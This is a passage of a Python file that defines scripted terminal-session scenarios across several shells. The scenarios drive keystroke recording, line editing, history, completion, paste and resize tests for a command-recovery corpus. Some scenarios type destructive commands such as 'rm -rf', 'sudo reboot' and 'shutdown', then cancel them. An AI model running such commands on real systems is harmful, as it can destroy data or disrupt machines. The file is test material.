"""Scenario definitions for record.py (see corpus/README.md).

A scenario is a dict:
  name        <shell-or-profile>_<what>, also the directory name under corpus/sessions/
  profile     a key of profiles.PROFILES (shell, user, host, prompt)
  cols, rows  starting terminal size (default 120x40)
  actions     list of ("type", text) | ("key", tmux-key-name, count) | ("enter",) | ("enter", timeout)
              | ("paste", text) | ("sleep", s) | ("resize", cols, rows) | ("wait", quiet, timeout)
              "type" sends one character every ~35 ms (a "\\n" inside it is an Enter key)
  commands    what the shell must record as executed, in order (asserted against the shell's record)
  cancelled   lines typed and abandoned (Ctrl-C, or cut by the session end); asserted absent
  end         "exit" (default; the last actions type exit) or "terminate" (SIGKILL below script)
  history_seed  earlier history the shell starts with (bash/sh, zsh, fish)
  must_contain  byte strings that must occur in raw.bin (checks that the intended redraw happened)
  must_not_contain  byte strings that must not occur in raw.bin
  extra_files   {path: (str-or-bytes, mode)} added to the scratch HOME
  forged        adversarial: strings in the output that imitate a command (truth.json, score.py --forged)
  unrecoverable adversarial: real commands the output never shows (typed with echo off; truth.json)
  notes, tags
"""
from __future__ import annotations

from profiles import (PROFILES, GT_SOURCE, home_files, versions, bash_gt_block, zsh_gt_block,  # noqa: F401
                      fish_gt_block, mksh_gt_block)

E = ("enter",)
# what xterm sends for Home/End in keypad-transmit mode (zsh's /etc/zsh/zshrc turns it on with smkx and
# binds these terminfo sequences; tmux's own Home/End keys would send ESC[1~ / ESC[4~)
XKEYS = {"xHome": "raw:1b4f48", "xEnd": "raw:1b4f46"}
EXIT = [("type", "exit"), ("enter",)]


def K(name, n=1):
    return ("key", name, n)


def T(text):
    return ("type", text)


def P(text):
    return ("paste", text)


def edit(*ops) -> tuple[list, str]:
    """Character-level line edit: returns (actions, resulting line).

    ops: str = type it at the cursor; ("Left"|"Right"|"BSpace"|"DC", n); "Home"/"End"
    (sent as the named key) or "C-a"/"C-e".
    """
    acts, buf, cur = [], "", 0
    for op in ops:
        if isinstance(op, str) and op in ("Home", "End", "C-a", "C-e", "xHome", "xEnd"):
            acts.append(K(XKEYS.get(op, op)))
            cur = 0 if op in ("Home", "C-a", "xHome") else len(buf)
        elif isinstance(op, str):
            acts.append(T(op))
            buf = buf[:cur] + op + buf[cur:]
            cur += len(op)
        else:
            k, n = op
            if k == "Lto":      # Left until the cursor is at the start of the last n before it
                k, n = "Left", cur - buf.rindex(n, 0, cur)
            elif k == "Rto":    # Right until the cursor is at the start of the next n after it
                k, n = "Right", buf.index(n, cur) - cur
            acts.append(K(k, n))
            if k == "Left":
                cur = max(0, cur - n)
            elif k == "Right":
                cur = min(len(buf), cur + n)
            elif k == "BSpace":
                d = min(n, cur)
                buf = buf[:cur - d] + buf[cur:]
                cur -= d
            elif k == "DC":
                buf = buf[:cur] + buf[cur + n:]
            else:
                raise ValueError(k)
    return acts, buf


def cmd(*ops):
    """edit() + Enter: returns (actions, command)."""
    a, b = edit(*ops)
    return a + [E], b


def build(name, profile, steps, **kw):
    """steps: list of (actions, command-or-None) pairs or bare action tuples."""
    actions, commands = [], []
    for st in steps:
        if isinstance(st, tuple) and len(st) == 2 and isinstance(st[0], list):
            actions += st[0]
            if st[1] is not None:
                commands.append(st[1])
        else:
            actions.append(st)
    d = dict(name=name, profile=profile, actions=actions, commands=commands)
    d.update(kw)
    return d


def run(text, timeout=15):
    """Type a command and press Enter."""
    return ([T(text), ("enter", timeout)], text)


def ex():
    return ([T("exit"), E], "exit")


LONG = "echo this is a fairly long command line that will certainly wrap around the right margin here"
SEED_BASH = ["df -h /", "tail -n 3 app.log", "grep ERROR app.log", "cat config.yaml", "echo deploy done",
             "ls -l scripts"]

SCENARIOS: list[dict] = []
add = SCENARIOS.append

# ============================================================================ bash (al2023)
add(build("bash_ls_cat_wc", "al2023", [
    run("ls -l"), run("cat notes.txt"), run("grep -n INFO app.log"), run("wc -l data.csv"),
    run("head -3 data.csv"), ex()],
    notes="plain commands with output (ls colour alias, cat, grep, wc, head)", tags=["plain", "output"]))

add(build("bash_enters_and_colours", "al2023", [
    ([E], None), ([E], None), run("grep --color=always ERROR app.log"), ([E], None),
    run(r"printf '\033[1;31mred\033[0m \033[32mgreen\033[0m \033[4munder\033[0m\n'"),
    run("ls --color=always scripts projects"), ([E], None), ex()],
    notes="empty Enter presses between commands; SGR colour output", tags=["empty-enter", "colour"]))

add(build("bash_progress_cr", "al2023", [
    run("for i in 10 20 30 40 50 60 70 80 90 100; do printf '\\rdownloading... %3d%%' $i; sleep 0.05; done; echo"),
    run("printf 'step 1\\rstep 2\\rdone  \\n'"),
    run("printf 'spinner |\\b/\\b-\\b\\\\\\b ok\\n'"), ex()],
    notes="progress output redrawn with bare CR and backspaces", tags=["progress", "cr"]))

add(build("bash_cursor_insert_delete", "al2023", [
    cmd("ehco one two", "Home", ("Right", 1), ("DC", 1), ("Right", 1), "h", "End", " three"),
    cmd("echo alpha gamma", ("Left", 5), "beta "),
    cmd("echo typo xx", ("BSpace", 3), " fixed"),
    cmd("ls -l app.log", "C-a", ("Right", 2), " -h", "C-e", " notes.txt"),
    cmd("cat dta.csv", ("Left", 6), "a", ("Right", 2), ("DC", 1), "."),
    ex()],
    notes="Left/Right, Home/End, C-a/C-e, insert mid-line, Delete, BSpace", tags=["edit", "insert", "delete"]))

add(build("bash_kill_yank_words", "al2023", [
    ([T("echo first second third"), K("C-w"), T("last"), E], "echo first second last"),
    ([T("rm -rf /tmp/whatever"), K("C-u"), T("echo safe"), E], "echo safe"),
    ([T("echo keep this drop that"), K("M-b"), K("M-b"), K("C-k"), T("end"), E], "echo keep this end"),
    ([T("echo moved"), K("C-a"), K("C-k"), T("printf '%s\\n' "), K("C-y"), E], "printf '%s\\n' echo moved"),
    ([T("echo red green blue"), K("C-a"), K("M-f"), K("M-f"), K("M-d"), E], "echo red blue"),
    ex()],
    notes="readline kill/yank: C-w, C-u, C-k, C-y, M-b, M-f, M-d", tags=["edit", "kill-yank", "words"]))

add(build("bash_history_up_down", "al2023", [
    run("echo one"), run("echo two"),
    ([K("Up", 2), K("BSpace", 3), T("three"), E], "echo three"),
    ([K("Up"), K("Up"), K("Down"), K("C-w"), T("four"), E], "echo four"),
    ([K("Up", 2), K("C-a"), K("M-f"), T(" -n"), K("End"), E], "echo -n three"),
    ex()],
    notes="Up/Down history recall then edit (C-w, BSpace, insert after M-f)", tags=["history", "edit"]))

add(build("bash_reverse_search", "al2023", [
    ([K("C-r"), T("df"), E], "df -h /"),
    ([K("C-r"), T("tail"), E], "tail -n 3 app.log"),
    ([K("C-r"), T("grep"), K("End"), T(" -c"), E], "grep ERROR app.log -c"),
    ([K("C-r"), T("conf"), K("C-g"), T("echo search aborted"), E], "echo search aborted"),
    ([K("C-r"), T("echo"), K("C-r"), E], "echo deploy done"),
    ex()],
    history_seed=SEED_BASH,
    notes="Ctrl-R reverse-i-search: accept with Enter, edit after End, abort with C-g, repeat C-r",
    tags=["history", "ctrl-r"]))

add(build("bash_tab_unique_paths", "al2023", [
    ([T("cat no"), K("Tab"), E], "cat notes.txt "),
    ([T("ls proj"), K("Tab"), E], "ls projects/"),
    ([T("cd projects/we"), K("Tab"), E], "cd projects/webapp/"),
    ([T("cat req"), K("Tab"), E], "cat requirements.txt "),
    run("cd"), ex()],
    notes="unique Tab completion of files and directories (trailing space / slash)", tags=["tab"]))

add(build("bash_tab_double_list", "al2023", [
    ([T("cat report-"), K("Tab"), K("Tab"), T("s"), K("Tab"), E], "cat report-summary.txt "),
    ([T("ls scripts/de"), K("Tab"), K("Tab"), K("Tab"), T("."), K("Tab"), E], "ls scripts/deploy.sh "),
    ([T("cat config"), K("Tab"), K("Tab"), E], "cat config.yaml"),
    ex()],
    notes="ambiguous Tab: bell, double-Tab listing printed below, prompt and line redrawn", tags=["tab", "listing"]))

add(build("bash_paste_bracketed", "al2023", [
    ([P("echo pasted line"), E], "echo pasted line"),
    ([T("grep "), P("ERROR"), T(" app.log"), E], "grep ERROR app.log"),
    ([P("echo alpha\necho beta"), E], None),
    ([], "echo alpha"), ([], "echo beta"),
    ([P("wc -l notes.txt"), K("C-a"), T("time "), E], "time wc -l notes.txt"),
    ex()],
    notes="bracketed paste: single line (shown highlighted then plain), paste mid-line, multi-line paste "
          "(bash records one command per line), paste then edit", tags=["paste", "bracketed"]))

add(build("bash_wrap_edit_60", "al2023", [
    cmd(LONG, ("Lto", "certainly"), "most ", ("Lto", "fairly"), ("BSpace", 2), ("DC", 7), "End", " ok"),
    cmd("echo " + "x" * 70, ("Left", 40), "-mid-", "Home", ("Right", 5), "START"),
    ex()],
    cols=60, rows=24,
    notes="long lines wrapped at 60 cols; cursor moved back across the wrap point, insert/delete there",
    tags=["wrap", "narrow", "insert", "delete"]))

add(build("bash_resize_100_to_60", "al2023", [
    run("echo before resize"),
    ([T("echo typed at 100 cols then")], None),
    ("resize", 60, 30),
    ([T(" finished at 60"), E], "echo typed at 100 cols then finished at 60"),
    run("ls"),
    cmd(LONG + " and more", ("Left", 30), "INSERTED "),
    ex()],
    cols=100, rows=30,
    notes="line typed at 100 cols, window resized to 60x30 mid-line, finished; long wrapped line after",
    tags=["resize", "wrap"]))

add(build("bash_multiline_constructs", "al2023", [
    ([T("echo one \\"), E, T("two three"), E], "echo one two three"),
    ([T("cat <<EOF"), E, T("line one"), E, T("line two"), E, T("EOF"), E], "cat <<EOF\nline one\nline two\nEOF"),
    ([T("for f in a b c"), E, T("do echo item $f"), E, T("done"), E], "for f in a b c\ndo echo item $f\ndone"),
    ([T('echo "open quote'), E, T('closed here"'), E], 'echo "open quote\nclosed here"'),
    ex()],
    notes="PS2 continuations: backslash (bash joins it in its record), here-doc, for loop, unclosed quote",
    tags=["multiline", "ps2", "heredoc"]))

add(build("bash_ctrl_c_lines", "al2023", [
    ([T("rm -rf build"), K("C-c")], None),
    run("echo kept"),
    ([T("echo half typed"), K("Left", 3), K("C-c")], None),
    ([T("sleep 30"), E, ("sleep", 0.5), K("C-c")], "sleep 30"),
    ([T("cat notes.txt | grep nginx"), K("C-a"), K("C-c")], None),
    run("echo after"), ex()],
    cancelled=["rm -rf build", "echo half typed", "cat notes.txt | grep nginx"],
    notes="lines typed then abandoned with Ctrl-C (cursor at end, mid-line, at start); Ctrl-C of a running command",
    tags=["ctrl-c", "cancelled"]))

add(build("bash_read_builtin_input", "al2023", [
    ([T("read -p 'Name: ' name"), E, T("alice"), E], "read -p 'Name: ' name"),
    run('echo "hello $name"'),
    ([T("read -r line"), E, T("ls -la this is data"), E], "read -r line"),
    run('echo "got: $line"'), ex()],
    notes="input read by the read builtin (with and without a prompt) is not a command", tags=["program-input", "read"]))

add(build("bash_cat_to_file", "al2023", [
    ([T("cat > todo.txt"), E, T("buy milk"), E, T("echo not a command"), E, K("C-d")], "cat > todo.txt"),
    run("cat todo.txt"), run("wc -l todo.txt"), ex()],
    notes="lines typed into cat > file (ended with C-d) are data", tags=["program-input", "cat"]))

add(build("bash_python_repl", "al2023", [
    ([T("python3"), ("enter", 15), ("wait", 0.5, 10), T("1+1"), E, T("x = 'abc'"), E, T("print(x.upper())"), E,
      T("exit()"), E], "python3"),
    run("echo back in bash"), ex()],
    notes="python3 REPL: >>> lines are program input, not shell commands", tags=["program-input", "repl"]))

add(build("bash_vim_edit_file", "al2023", [
    ([T("vim todo.md"), ("enter", 15), ("wait", 0.6, 10), T("i"), T("# todo"), E, T("- ship it"), K("Escape"),
      T(":wq"), E], "vim todo.md"),
    run("cat todo.md"), ex()],
    notes="vim on the alternate screen: insert text, :wq", tags=["program-input", "fullscreen", "vim"]))

add(build("bash_less_and_top", "al2023", [
    ([T("less app.log"), E, ("wait", 0.5, 10), T("q")], "less app.log"),
    ([T("top"), E, ("wait", 0.8, 10), T("q")], "top"),
    run("echo done"), ex()],
    notes="less (q) and top (q): full-screen programs on the alternate screen", tags=["fullscreen", "less", "top"]))

add(build("bash_nested_shells", "al2023", [
    run("sh"), run("echo $0"), run("exit"), run("bash"), run("cd /tmp"), run("pwd"), run("exit"),
    run("echo outer"), ex()],
    notes="nested shells: bash -> sh (bash --posix, sh-5.2$) -> exit, bash -> bash -> exit", tags=["nested"]))

add(build("bash_bang_history", "al2023", [
    run("echo repeat me"), ([T("!!"), E], "echo repeat me"),
    run("ls notes.txt"), ([T("!ec"), E], "echo repeat me"),
    run("echo $((6*7))"), ex()],
    notes="history expansion: bash prints and records the expanded line", tags=["history", "bang"]))

add(build("bash_terminate_midline", "al2023", [
    run("cd projects/webapp"), run("cat requirements.txt"), ([T("sudo systemctl rest")], None)],
    end="terminate", cancelled=["sudo systemctl rest"],
    notes="session terminated (SIGKILL) while a line was being typed", tags=["terminate", "cancelled"]))

# ============================================================================ nobp
add(build("nobp_paste_plain", "nobp", [
    ([P("echo first paste\n")], "echo first paste"),
    ([P("ls -1 scripts\necho second\n")], None), ([], "ls -1 scripts"), ([], "echo second"),
    ([T("echo typed "), P("and pasted"), E], "echo typed and pasted"),
    ex()],
    notes="bracketed paste off: pasted newlines submit immediately, paste mid-line", tags=["paste", "nobp"]))

add(build("nobp_wrap_50", "nobp", [
    cmd("echo narrow terminal with a command that wraps twice at fifty columns wide", ("Lto", "command"),
        ("BSpace", 2), "one ", "C-e", " ok"),
    cmd("grep -c INFO app.log", "C-a", ("Right", 4), " -i"),
    ex()],
    cols=50, rows=24,
    notes="no title, no bracketed paste; wrapped line edited across the wrap at 50 cols", tags=["wrap", "narrow", "nobp"]))

# ============================================================================ debian / ubuntu
add(build("debian_colour_narrow", "debian", [
    run("ls"), run("grep --color=auto -i warn app.log"), run("ls -l scripts"),
    cmd("echo debian prompt with title and colours in a narrow window", ("Lto", "colours"), "bright "),
    ex()],
    cols=50, rows=30,
    notes="Debian skeleton .bashrc (colour prompt, title in PS1) at 50 cols", tags=["colour", "narrow"]))

add(build("debian_terminate_idle", "debian", [run("uname -s"), run("whoami"), ([E], None)],
    end="terminate",
    notes="session terminated at an empty prompt", tags=["terminate"]))

add(build("debian_wrap_40", "debian", [
    cmd("echo forty columns is really narrow for this", ("Lto", "narrow"), "very ", "C-a", ("Right", 5),
        ("DC", 5), "FORTY"),
    cmd("cat config.yaml", "C-a", ("DC", 3), "head -3"),
    ex()],
    cols=40, rows=24,
    notes="40 cols: the prompt alone takes most of the first row", tags=["wrap", "narrow"]))

add(build("ubuntu_alias_env", "ubuntu", [
    run("ll"), run("export APP_ENV=prod"), run("echo $APP_ENV"), run("df -h / | tail -1"),
    run("cd scripts && ls"), run("cd -"), ex()],
    notes="Ubuntu-style prompt, aliases, env, cd -", tags=["plain"]))

add(build("ubuntu_long_wrap_80", "ubuntu", [
    cmd("echo the ubuntu prompt is long so this command wraps onto a second row at eighty columns", "Home",
        ("Right", 5), "WRAPPED ", "End", ("Lto", "so this"), ("DC", 3), "End", " ok"),
    ([T("echo delete words across the wrapping point of this line when it is long"), K("M-b", 6), K("C-w", 2),
      E], "echo delete words across the wrapping this line when it is long"),
    ex()],
    cols=80, rows=24,
    notes="80 cols: Home/End jumps across the wrap, Delete, words killed across the wrap", tags=["wrap", "narrow"]))

# ============================================================================ sh (bash --posix)
add(build("sh_edit_keys", "sh", [
    cmd("echo posix shell line", ("Lto", "line"), "mode ", "Home", ("DC", 4), "printf '%s\\n'"),
    ([T("echo one two three"), K("C-w"), K("C-w"), T("four"), E], "echo one four"),
    ([T("ls /nonexist"), K("C-u"), T("ls scripts"), E], "ls scripts"),
    ex()],
    notes="sh-5.2$ prompt (no title): Left insert, Home + Delete, C-w, C-u", tags=["edit", "sh"]))

add(build("sh_continuation_heredoc", "sh", [
    ([T("echo start \\"), E, T("end"), E], "echo start end"),
    ([T("cat <<'END'"), E, T("$HOME stays literal"), E, T("END"), E], "cat <<'END'\n$HOME stays literal\nEND"),
    ([T("echo abandoned line"), K("C-c")], None),
    run("echo ok"), ex()],
    cancelled=["echo abandoned line"],
    notes="sh: backslash continuation, quoted here-doc, Ctrl-C", tags=["multiline", "heredoc", "ctrl-c"]))

add(build("sh_terminate_typing", "sh", [run("id -un"), run("echo working"), ([T("tail -f app.l")], None)],
    end="terminate", cancelled=["tail -f app.l"],
    notes="sh session terminated while typing", tags=["terminate", "cancelled"]))

# ============================================================================ dash
add(build("dash_arrow_escapes", "dash", [
    ([K("Up"), K("BSpace", 3), T("ls scripts"), E], "ls scripts"),
    ([T("echo left"), K("Left"), E], "echo left\x1b[D"),
    ([K("Up"), E], "\x1b[A"),
    run("echo fine"), ex()],
    notes="dash has no line editor: arrows arrive as ESC [ A, shown as ^[[A; erased with BSpace or executed",
    tags=["dash", "arrows", "no-editor"]))

add(build("dash_heredoc_loop_read", "dash", [
    ([T("cat <<EOF"), E, T("first"), E, T("second"), E, T("EOF"), E], "cat <<EOF\nfirst\nsecond\nEOF"),
    ([T("for i in 1 2 3; do"), E, T("echo n=$i"), E, T("done"), E], "for i in 1 2 3; do\necho n=$i\ndone"),
    ([T("read -p 'Name: ' who"), E, T("bob"), E], "read -p 'Name: ' who"),
    run('echo "hi $who"'),
    ([T('echo "a'), E, T('b"'), E], 'echo "a\nb"'),
    ex()],
    notes="dash: here-doc, for loop and unclosed quote with PS2 '> ', read -p data", tags=["dash", "multiline", "read"]))

add(build("dash_ctrl_c_cut", "dash", [
    ([T("rm -r /tmp/x"), K("C-c")], None),
    run("echo survived"),
    ([T("echo wrong"), K("BSpace", 5), T("right"), E], "echo right"),
    ([T("sleep 20"), E, ("sleep", 0.4), K("C-c")], "sleep 20"),
    ([T("cat /etc/hostn")], None)],
    end="terminate", cancelled=["rm -r /tmp/x", "cat /etc/hostn"],
    notes="dash: Ctrl-C on a typed line, kernel BSpace erase, Ctrl-C a running command, cut mid-line",
    tags=["dash", "ctrl-c", "terminate"]))

add(build("dash_wrap_40", "dash", [
    cmd("echo a dash line long enough to wrap at forty columns", ("BSpace", 21), "end here"),
    run("pwd"), ex()],
    cols=40, rows=20,
    notes="dash at 40 cols: kernel echo wraps, BSpace erase across the wrap (the terminal does not reverse-wrap)",
    tags=["dash", "wrap", "narrow"]))

# ============================================================================ zsh
add(build("zsh_kill_words", "zsh", [
    ([T("echo first second third"), K("C-w"), T("last"), E], "echo first second last"),
    ([T("echo keep this drop that"), K("M-b"), K("M-b"), K("C-k"), T("end"), E], "echo keep this end"),
    ([T("echo moved"), K("C-a"), K("C-k"), T("print -r -- "), K("C-y"), E], "print -r -- echo moved"),
    ([T("echo red green blue"), K("C-a"), K("M-f"), K("M-f"), K("M-d"), E], "echo red  blue"),
    ([T("rm -rf /tmp/zz"), K("C-u"), T("echo cleared"), E], "echo cleared"),
    ex()],
    notes="zsh emacs keymap: C-w, M-b, C-k, C-y, M-f, M-d, C-u", tags=["edit", "kill-yank", "words"]))

add(build("zsh_cursor_home_end", "zsh", [
    cmd("ehco zsh line", "xHome", ("Right", 1), ("DC", 1), ("Right", 1), "h", "xEnd", " done"),
    cmd("ls app.log", "xHome", ("Right", 2), " -l", "xEnd", " notes.txt"),
    cmd("cat dta.csv", ("Left", 6), "a", ("Right", 2), ("DC", 1), ".", ("BSpace", 1), "."),
    ex()],
    notes="zsh: Home/End keys as xterm sends them in keypad mode (ESC O H / ESC O F, bound by /etc/zsh/zshrc), "
          "Delete, insert, BSpace", tags=["edit"]))

add(build("zsh_history_ctrl_r", "zsh", [
    run("echo zsh one"),
    ([K("Up"), K("BSpace", 3), T("two"), E], "echo zsh two"),
    ([K("C-r"), T("tail"), E], "tail -n 2 app.log"),
    ([K("C-r"), T("grep"), K("C-e"), T(" -c"), E], "grep WARN app.log -c"),
    ([K("C-r"), T("nothing"), K("C-g"), T("echo gave up"), E], "echo gave up"),
    ([K("Up", 2), K("Down"), E], "echo gave up"),
    ex()],
    history_seed=["tail -n 2 app.log", "grep WARN app.log", "cat config.yaml"],
    notes="zsh Up/Down recall + edit, Ctrl-R search accepted, edited, aborted with C-g", tags=["history", "ctrl-r"]))

add(build("zsh_tab_listing", "zsh", [
    ([T("cat no"), K("Tab"), E], "cat notes.txt"),
    ([T("cd proj"), K("Tab"), T("web"), K("Tab"), E], "cd projects/webapp"),
    run("cd"),
    ([T("cat report-"), K("Tab"), T("q2"), K("Tab"), E], "cat report-q2.txt"),
    ([T("ls scripts/de"), K("Tab"), T("-"), K("Tab"), E], "ls scripts/deploy-canary.sh"),
    ex()],
    notes="zsh completion: unique (the auto-inserted space / slash is removed on Enter), ambiguous listing "
          "below the prompt, narrowed and completed", tags=["tab", "listing"]))

add(build("zsh_multiline_buffers", "zsh", [
    ([T("for i in 1 2 3; do"), E, T("echo n=$i"), E, T("done"), E], "for i in 1 2 3; do\necho n=$i\ndone"),
    ([T("echo one \\"), E, T("two"), E], "echo one \\\ntwo"),
    ([T('echo "open'), E, T('closed"'), E], 'echo "open\nclosed"'),
    ([T("cat <<EOF"), E, T("here doc"), E, T("EOF"), E], "cat <<EOF\nhere doc\nEOF"),
    ex()],
    notes="zsh PS2 (for>, quote>, heredoc>) continuations recorded with embedded newlines", tags=["multiline", "ps2"]))

add(build("zsh_paste_modes", "zsh", [
    ([P("echo pasted in zsh"), E], "echo pasted in zsh"),
    ([T("echo "), P("middle"), T(" end"), E], "echo middle end"),
    ([P("echo line1\necho line2"), E], "echo line1\necho line2"),
    ex()],
    notes="zsh bracketed paste (reverse video until edited), multi-line paste kept as one buffer", tags=["paste"]))

add(build("zsh_ctrl_c_terminate", "zsh", [
    ([T("git push --force"), K("C-c")], None),
    run("echo kept"),
    ([T("echo mid"), K("Left", 2), K("C-c")], None),
    ([T("for x in a b; do"), E, T("echo $x"), K("C-c")], None),
    run("echo still here"),
    ([T("shutdown -h no")], None)],
    end="terminate", cancelled=["git push --force", "echo mid", "for x in a b; do\necho $x", "shutdown -h no"],
    notes="zsh Ctrl-C on a line, mid-line, inside a PS2 continuation; session cut mid-typing",
    tags=["ctrl-c", "cancelled", "terminate"]))

add(build("zsh_programs_input", "zsh", [
    ([T("python3 -q"), ("enter", 15), ("wait", 0.5, 10), T("sum(range(10))"), E, T("exit()"), E], "python3 -q"),
    ([T("cat > list.txt"), E, T("alpha"), E, T("beta"), E, K("C-d")], "cat > list.txt"),
    ([T("read 'ans?Continue? '"), E, T("yes"), E], "read 'ans?Continue? '"),
    run("echo $ans"), ex()],
    notes="zsh: python3 REPL, cat > file, read with a prompt: their input is not a command", tags=["program-input"]))

add(build("zsh_rprompt_wrap_50", "zsh_rprompt", [
    run("false"),
    cmd("echo the right prompt disappears when this line gets long enough", ("Lto", "long enough"), "QUITE ", "C-e", "!"),
    run("echo ok"), ex()],
    cols=50, rows=24,
    notes="RPROMPT ([1] after failure) at 50 cols; RPROMPT removed as the line grows and wraps", tags=["rprompt", "wrap", "narrow"]))

add(build("zsh_rprompt_resize", "zsh_rprompt", [
    run("echo wide"),
    ([T("echo typed wide")], None),
    ("resize", 70, 30),
    ([T(" then narrow"), E], "echo typed wide then narrow"),
    cmd("echo after the resize a long line wraps at seventy columns in zsh with rprompt", ("Lto", "with"), "NOW "),
    ("resize", 110, 30),
    run("echo wide again"), ex()],
    cols=110, rows=30,
    notes="zsh with RPROMPT: resized 110->70 mid-line and back to 110", tags=["resize", "rprompt", "wrap"]))

# ============================================================================ fish
add(build("fish_edit_keys", "fish", [
    cmd("ehco fish line", "Home", ("Right", 1), ("DC", 1), ("Right", 1), "h", "End", " done"),
    ([T("echo keep this drop that"), K("M-b"), K("M-b"), K("C-k"), T("end"), E], "echo keep this end"),
    ([T("echo red green blue"), K("C-a"), K("M-f"), K("M-f"), K("M-d"), E], "echo red blue"),
    ([T("echo moved"), K("C-a"), K("C-k"), T("string upper "), K("C-y"), E], "string upper echo moved"),
    ([T("rm -rf /tmp/ff"), K("C-u"), T("echo cleared"), E], "echo cleared"),
    ex()],
    notes="fish: Home/End, Delete, M-b/M-f/M-d, C-k/C-y, C-u with syntax highlighting redraws", tags=["edit", "kill-yank"]))

add(build("fish_prefix_search", "fish", [
    ([T("echo b"), K("Up"), E], "echo build 41"),
    ([T("echo"), K("Up"), K("Up"), E], "echo build 42"),
    ([T("uname"), K("Up"), E], "uname"),
    ([K("Up", 3), E], "echo build 41"),
    ex()],
    history_seed=["echo build 41", "uname -m", "echo build 42", "date -u +%Y", "echo cache cleared"],
    notes="fish history search with typed text + Up/Down. fish 3.6 skips the entry equal to the visible "
          "autosuggestion, so 'uname' + Up stays 'uname' (the grey ' -m' is not run)", tags=["history", "prefix-search"]))

add(build("fish_autosuggest_keys", "fish", [
    ([T("grep -c WA"), ("sleep", 0.3), K("Right"), E], "grep -c WARN app.log"),
    ([T("echo deploy"), ("sleep", 0.3), K("M-f"), E], "echo deploy to"),
    ([T("df"), ("sleep", 0.3), K("C-e"), E], "df -h /"),
    ([T("cat da"), ("sleep", 0.3), K("End"), E], "cat data.csv"),
    ex()],
    history_seed=["grep -c WARN app.log", "echo deploy to staging now", "df -h /", "cat data.csv"],
    notes="fish autosuggestions from history accepted with Right, M-f (one word), C-e, End", tags=["autosuggest"]))

add(build("fish_tab_pager", "fish", [
    ([T("cat no"), K("Tab"), E], "cat notes.txt "),
    ([T("ls proj"), K("Tab"), T("wo"), K("Tab"), E], "ls projects/worker/"),
    ([T("cat report-"), K("Tab"), ("sleep", 0.3), T("su"), K("Tab"), E], "cat report-summary.txt "),
    ex()],
    notes="fish completion: unique, directory, ambiguous with the pager listed below then narrowed",
    tags=["tab", "pager"]))

add(build("fish_blocks", "fish", [
    ([T("for i in 1 2 3"), E, T("echo $i"), E, T("end"), E], "for i in 1 2 3\necho $i\nend"),
    ([T("if test -f notes.txt"), E, T("echo present"), E, T("end"), E], "if test -f notes.txt\necho present\nend"),
    ([T('echo "open'), E, T('quote"'), E], 'echo "open\nquote"'),
    ([T("echo one \\"), E, T("two"), E], "echo one \\\ntwo"),
    ex()],
    notes="fish multi-line buffers: for/if blocks (displayed indented), open quote, backslash", tags=["multiline"]))

add(build("fish_paste_ctrl_c", "fish", [
    ([P("echo pasted fish"), E], "echo pasted fish"),
    ([P("echo p1\necho p2"), E], "echo p1\necho p2"),
    ([T("sudo reboot"), K("C-c")], None),
    ([T("echo abc"), K("Left", 2), K("C-c")], None),
    run("echo end"), ex()],
    cancelled=["sudo reboot", "echo abc"],
    notes="fish bracketed paste (multi-line kept as one command), Ctrl-C clears the line", tags=["paste", "ctrl-c"]))

add(build("fish_resize_wrap", "fish", [
    run("echo start"),
    ([T("echo typed at one hundred")], None),
    ("resize", 60, 30),
    ([T(" and finished at sixty"), E], "echo typed at one hundred and finished at sixty"),
    cmd("echo a long fish command line that wraps at sixty columns for sure", ("Lto", "wraps"), "still ",
        "End", " ok"),
    ex()],
    cols=100, rows=30,
    notes="fish: resize 100->60 mid-line (fish repaints the prompt), long wrapped line edited", tags=["resize", "wrap"]))

add(build("fish_terminate_typing", "fish", [run("set -l x 5"), run("echo x is $x"), ([T("systemctl stat")], None)],
    end="terminate", cancelled=["systemctl stat"],
    notes="fish session terminated mid-typing", tags=["terminate", "cancelled"]))

add(build("fish_programs_input", "fish", [
    ([T("read -P 'Name: ' name"), E, T("carol"), E], "read -P 'Name: ' name"),
    run("echo hello $name"),
    ([T("less notes.txt"), E, ("wait", 0.5, 10), T("q")], "less notes.txt"),
    ex()],
    notes="fish read with a prompt (data), less (q)", tags=["program-input", "fullscreen"]))

# ============================================================================ mksh
add(build("mksh_edit_keys", "mksh", [
    cmd("ehco mksh line", "C-a", ("Right", 1), ("DC", 1), ("Right", 1), "h", "C-e", " done"),
    ([T("echo keep this drop that"), K("M-b"), K("M-b"), K("C-k"), T("end"), E], "echo keep this end"),
    ([T("echo moved"), K("C-a"), K("C-k"), T("print -r -- "), K("C-y"), E], "print -r -- echo moved"),
    ([T("echo red green blue"), K("C-a"), K("M-f"), K("M-f"), K("M-d"), E], "echo red blue"),
    cmd("echo alpha gamma", ("Left", 5), "beta ", ("BSpace", 2), "a "),
    ex()],
    notes="mksh emacs mode: C-a/C-e, Left/Right, Delete, M-b/M-f/M-d, C-k/C-y", tags=["edit", "kill-yank"]))

add(build("mksh_hscroll_60", "mksh", [
    cmd("echo mksh does not wrap long lines it scrolls them horizontally instead of wrapping", ("Lto", "scrolls"),
        "REALLY ", "C-a", ("Right", 5), ("DC", 4), "MKSH", "C-e", " end"),
    run("echo short"), ex()],
    cols=60, rows=24,
    notes="mksh horizontal scrolling of a long line at 60 cols ('<' '>' '*' markers), edits at both ends",
    tags=["hscroll", "narrow", "edit"]))

add(build("mksh_multiline_ctrl_c", "mksh", [
    ([T("for i in a b; do"), E, T("echo $i"), E, T("done"), E], "for i in a b; do\necho $i\ndone"),
    ([T("cat <<EOF"), E, T("doc"), E, T("EOF"), E], "cat <<EOF\ndoc\nEOF"),
    ([T("echo cancel me"), K("C-c")], None),
    run("echo last"),
    ([K("Up"), K("BSpace", 4), T("again"), E], "echo again"),
    ex()],
    cancelled=["echo cancel me"],
    notes="mksh: for loop and here-doc with PS2, Ctrl-C (mksh saves the line in its history), Up recall + edit",
    tags=["multiline", "ctrl-c", "history"]))

add(build("mksh_plain_output", "mksh", [
    run("ls -l scripts"), ([E], None), run("grep -c INFO app.log"), run("print -r -- $KSH_VERSION"),
    run("cat data.csv"), ex()],
    notes="mksh plain commands, empty Enter (CR CR LF echo)", tags=["plain"]))

# ============================================================================ more narrow widths
add(build("fish_wrap_edit_50", "fish", [
    cmd("echo fish wraps this command line at fifty columns and we edit it", ("Lto", "at fifty"), ("BSpace", 5),
        "row ", "C-a", ("Right", 5), "long: ", "C-e", " end"),
    run("echo short"), ex()],
    cols=50, rows=24,
    notes="fish at 50 cols: wrapped line, BSpace and insert before the wrap point, C-a/C-e across it",
    tags=["wrap", "narrow", "edit"]))

add(build("zsh_wrap_across_60", "zsh", [
